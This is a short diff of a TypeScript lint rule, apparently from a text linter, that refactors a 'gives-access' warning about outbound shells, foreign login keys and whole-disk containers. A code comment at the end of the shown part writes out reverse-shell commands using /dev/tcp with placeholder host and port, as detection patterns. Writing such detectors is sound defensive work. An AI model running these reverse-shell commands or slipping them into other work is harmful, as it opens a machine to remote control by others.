@@ -1,14 +1,10 @@
-import type { LintRule, TextReport } from '../report/types.ts'
+import { rulesOf, type TextReport } from '../report/types.ts'
 import { eachMatch } from '../text/each-match.ts'
 
-export const accessRules: readonly LintRule[] = [
-  {
-    id: 'gives-access',
-    level: 'warning',
-    explanation:
-      'A shell that connects out, a stranger’s login key or a container with the whole disk lets others into the machine.',
-  },
-]
+export const accessRules = rulesOf('warning', {
+  'gives-access':
+    'A shell that connects out, a stranger’s login key or a container with the whole disk lets others into the machine.',
+})
 
 const ways = [
   // bash -i >& /dev/tcp/host/port 0>&1, exec 5<>/dev/tcp/host/port
